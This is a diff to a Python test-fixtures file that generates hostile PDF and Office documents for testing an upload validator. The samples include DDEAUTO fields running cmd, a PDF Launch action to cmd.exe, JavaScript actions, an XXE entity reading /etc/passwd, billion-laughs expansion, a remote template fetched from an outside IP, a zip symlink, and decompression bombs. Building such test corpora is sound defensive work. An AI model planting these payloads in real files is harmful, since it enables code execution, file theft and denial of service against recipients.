@@ -4,11 +4,15 @@ corpus of hostile ones. Nothing binary is committed."""
 from __future__ import annotations
 
 import io
+import stat
 import struct
+import warnings
 import zipfile
 import zlib
+from collections.abc import Callable
 from functools import cache
 
+import pikepdf
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
 
@@ -40,14 +44,15 @@ def pdf_bytes(pages: int = 1) -> bytes:
     return output.getvalue()
 
 
-def ooxml_bytes(extension: str, *, extra: dict[str, bytes] | None = None) -> bytes:
+def ooxml_bytes(extension: str, *, extra: dict[str, str | bytes] | None = None) -> bytes:
+    """A small Office document; `extra` adds parts, or replaces the main one."""
     part, main = OOXML[extension]
+    parts = {part: '<?xml version="1.0"?><document>售后服务</document>', **(extra or {})}
     output = io.BytesIO()
     with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part=part, main=main))
         archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
-        archive.writestr(part, '<?xml version="1.0"?><document>售后服务</document>')
-        for name, content in (extra or {}).items():
+        for name, content in parts.items():
             archive.writestr(name, content)
     return output.getvalue()
 
@@ -56,7 +61,9 @@ def ofd_bytes() -> bytes:
     output = io.BytesIO()
     with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("OFD.xml", '<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>')
-        archive.writestr("Doc_0/Document.xml", '<?xml version="1.0"?><ofd:Document/>')
+        archive.writestr(
+            "Doc_0/Document.xml", '<?xml version="1.0"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>'
+        )
     return output.getvalue()
 
 
@@ -188,3 +195,246 @@ def multipart(fields: dict[str, list[str]], files: list[tuple[str, str, bytes]])
         parts.append(head.encode() + content + b"\r\n")
     parts.append(f"--{boundary}--\r\n".encode())
     return b"".join(parts), f"multipart/form-data; boundary={boundary}"
+
+
+# --- Active content in documents (PDF and Office) ----------------------------------------------------
+
+
+def _pdf_with(change: Callable[[pikepdf.Pdf], None], pages: int = 3) -> bytes:
+    """A real PDF of `pages` pages, changed by `change` (the hostile part is on the last page where
+    it can be, so that a check of the first page only would miss it)."""
+    with pikepdf.open(io.BytesIO(pdf_bytes(pages))) as pdf:
+        change(pdf)
+        output = io.BytesIO()
+        pdf.save(output)
+    return output.getvalue()
+
+
+def _javascript(pdf: pikepdf.Pdf) -> None:
+    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')"))
+    pdf.Root.OpenAction = action
+    tree = pikepdf.Dictionary(Names=pikepdf.Array(["run", action]))
+    pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)
+
+
+def _launch_on_last_page(pdf: pikepdf.Pdf) -> None:
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe"))
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 200, 280]), A=launch
+    )
+    page = pdf.pages[-1]
+    page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
+    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="this.print()"))
+
+
+def _embedded_file(pdf: pikepdf.Pdf) -> None:
+    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 an executable", mime_type="x/exe")
+    stream = pikepdf.Stream(pdf, b"MZ\x90\x00 another executable")
+    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="tool.exe", EF=pikepdf.Dictionary(F=stream))
+    attachment = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=pikepdf.Array([0, 0, 20, 20]), FS=spec
+    )
+    pdf.pages[-1].obj.Annots = pikepdf.Array([pdf.make_indirect(attachment)])
+
+
+def pdf_with_javascript() -> bytes:
+    return _pdf_with(_javascript)
+
+
+def pdf_with_launch_action() -> bytes:
+    return _pdf_with(_launch_on_last_page)
+
+
+def pdf_with_embedded_files() -> bytes:
+    return _pdf_with(_embedded_file)
+
+
+APPENDED_HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
+
+
+def pdf_with_appended_data() -> bytes:
+    return pdf_bytes(2) + APPENDED_HTML
+
+
+def pdf_with_data_between_revisions() -> bytes:
+    """A web page slipped in after the end, then the document's own trailer copied after it, so the
+    file still ends in %%EOF."""
+    content = pdf_bytes(2)
+    trailer = content[content.rindex(b"startxref") :]
+    return content + APPENDED_HTML + trailer
+
+
+@cache
+def pdf_bomb(inflated: int = 300 * 1024 * 1024) -> bytes:
+    """A page whose content stream is small in the file (about 300 KB) and inflates to 300 MB."""
+    compressor = zlib.compressobj(9)
+    block = b" " * (16 * 1024 * 1024)
+    data = b"".join(compressor.compress(block) for _ in range(inflated // len(block))) + compressor.flush()
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        stream = pikepdf.Stream(pdf, data)
+        stream.Filter = pikepdf.Name.FlateDecode
+        pdf.pages[-1].obj.Contents = pdf.make_indirect(stream)
+
+    return _pdf_with(change, pages=2)
+
+
+@cache
+def pdf_bomb_of_many_streams() -> bytes:
+    """Each stream under the limit for one, five of them over the limit for all (the same 200 MB
+    stream, stored five times)."""
+    compressor = zlib.compressobj(9)
+    block = b"\x00" * (20 * 1024 * 1024)
+    data = b"".join(compressor.compress(block) for _ in range(10)) + compressor.flush()
+
+    def form(pdf: pikepdf.Pdf) -> pikepdf.Stream:
+        stream = pikepdf.Stream(pdf, data)
+        stream.Filter = pikepdf.Name.FlateDecode
+        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
+        stream.BBox = pikepdf.Array([0, 0, 1, 1])
+        return stream
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        for page in pdf.pages:
+            page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Fm0=form(pdf), Fm1=form(pdf)))
+
+    return _pdf_with(change, pages=3)
+
+
+def pdf_with_huge_image() -> bytes:
+    """An image that declares 60,000 × 60,000 pixels in a few bytes: a renderer would allocate 10 GB."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        image = pikepdf.Stream(pdf, zlib.compress(b"\x00" * 1024))
+        image.Filter = pikepdf.Name.FlateDecode
+        image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
+        image.Width = image.Height = 60_000
+        image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
+        pdf.pages[-1].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
+
+    return _pdf_with(change)
+
+
+RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+)
+RELATIONSHIP = '<Relationship Id="rId{number}" Type="{type}" Target="{target}"{mode}/>'
+RELATIONSHIP_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def relationships(*items: tuple[str, str, bool]) -> str:
+    """A .rels part: (type, target, external)."""
+    return RELS.format(
+        "".join(
+            RELATIONSHIP.format(
+                number=number,
+                type=RELATIONSHIP_TYPES + kind,
+                target=target,
+                mode=' TargetMode="External"' if external else "",
+            )
+            for number, (kind, target, external) in enumerate(items, start=1)
+        )
+    )
+
+
+def word_document(body: str) -> str:
+    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>'
+
+
+def field(*instruction_runs: str) -> str:
+    """A complex field whose instruction is split over several runs, as Word may store it."""
+    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instruction_runs)
+    return (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def docx_with(parts: dict[str, str | bytes]) -> bytes:
+    """A Word document with these parts added or replaced."""
+    return ooxml_bytes("docx", extra=dict(parts))
+
+
+def zip_with_symlink() -> bytes:
+    content = ooxml_bytes("docx")
+    output = io.BytesIO(content)
+    with zipfile.ZipFile(output, "a") as archive:
+        link = zipfile.ZipInfo("word/media/image1.png")
+        link.create_system = 3
+        link.external_attr = (stat.S_IFLNK | 0o777) << 16
+        archive.writestr(link, "/etc/passwd")
+    return output.getvalue()
+
+
+def zip_with_duplicate_member() -> bytes:
+    output = io.BytesIO(ooxml_bytes("docx"))
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the duplicate name: the point
+        with zipfile.ZipFile(output, "a") as archive:
+            archive.writestr(OOXML["docx"][0], word_document("<w:p><w:r><w:t>the other text</w:t></w:r></w:p>"))
+    return output.getvalue()
+
+
+XXE = (
+    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
+    f"<w:document {W}><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"
+)
+ENTITY_EXPANSION = (
+    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
+    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]><cp:coreProperties '
+    'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">&lol3;</cp:coreProperties>'
+)
+OLE_PACKAGE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56 + "\x01Ole10Native".encode("utf-16-le") + b"\x00" * 64
+DDE_FORMULA_SHEET = (
+    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    '<sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
+)
+
+# name -> (file name, content factory, words the refusal must contain)
+HOSTILE_DOCUMENTS = {
+    "remote-template": ("手册.docx", lambda: docx_with({"word/_rels/settings.xml.rels": relationships(
+        ("attachedTemplate", "http://203.0.113.9/template.dotm", True))}), "外部"),
+    "picture-on-network-path": ("手册.docx", lambda: docx_with({"word/_rels/document.xml.rels": relationships(
+        ("image", "\\\\fileserver\\share\\logo.png", True))}), "外部"),
+    "linked-ole-object": ("手册.docx", lambda: docx_with({"word/_rels/document.xml.rels": relationships(
+        ("oleObject", "file:///C:/finance/prices.xlsx", True))}), "外部"),
+    "external-workbook-link": ("名录.xlsx", lambda: ooxml_bytes("xlsx", extra={
+        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
+            ("externalLinkPath", "file:///\\\\server\\share\\book.xlsx", True))}), "外部"),
+    "dde-field-split-over-runs": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: word_document(
+        field("PAGE") + field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "))}), "DDE"),
+    "dde-simple-field": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: word_document(
+        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/></w:p>')}), "DDE"),
+    "includepicture-field": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: word_document(
+        field(' INCLUDEPICTURE "http://203.0.113.9/track.png" \\d '))}), "DDE"),
+    "dde-formula": ("名录.xlsx", lambda: ooxml_bytes("xlsx", extra={"xl/worksheets/sheet1.xml": DDE_FORMULA_SHEET}),
+                    "DDE"),
+    "macro-part-in-capitals": ("手册.docx", lambda: docx_with({"word/VBAPROJECT.BIN": b"macro"}), "宏"),
+    "macro-content-type": ("手册.docx", lambda: docx_with({"word/macros.xml": (
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')}), "宏"),
+    "activex-control": ("课件.pptx", lambda: ooxml_bytes("pptx", extra={"ppt/activeX/activeX1.bin": b"\x00" * 64}),
+                        "嵌入"),
+    "ole-package-embedded": ("手册.docx", lambda: docx_with({"word/embeddings/oleObject1.bin": OLE_PACKAGE}), "嵌入"),
+    "macro-document-embedded": ("手册.docx", lambda: docx_with({"word/embeddings/Book1.xlsm": b"PK\x03\x04"}), "嵌入"),
+    "external-entity": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: XXE}), "DOCTYPE"),
+    "entity-expansion-in-last-part": ("手册.docx", lambda: docx_with({"docProps/core.xml": ENTITY_EXPANSION}),
+                                      "DOCTYPE"),
+    "symlink-member": ("手册.docx", zip_with_symlink, "内部结构"),
+    "duplicate-member": ("手册.docx", zip_with_duplicate_member, "内部结构"),
+    "pdf-bomb": ("扫描件.pdf", pdf_bomb, "解压"),
+    "pdf-bomb-of-many-streams": ("扫描件.pdf", pdf_bomb_of_many_streams, "解压"),
+    "pdf-image-of-a-billion-pixels": ("扫描件.pdf", pdf_with_huge_image, "解压"),
+}  # fmt: skip
+
+# PDFs kept, but only as a clean copy: name -> (content factory, bytes the clean copy must not hold)
+SANITISED_PDFS = {
+    "javascript": (pdf_with_javascript, [b"/JavaScript", b"app.alert"]),
+    "launch-action-on-last-page": (pdf_with_launch_action, [b"/Launch", b"cmd.exe", b"this.print"]),
+    "embedded-files": (pdf_with_embedded_files, [b"/EmbeddedFile", b"setup.exe", b"tool.exe"]),
+    "data-after-the-end": (pdf_with_appended_data, [b"<script>"]),
+    "data-between-revisions": (pdf_with_data_between_revisions, [b"<script>"]),
+}
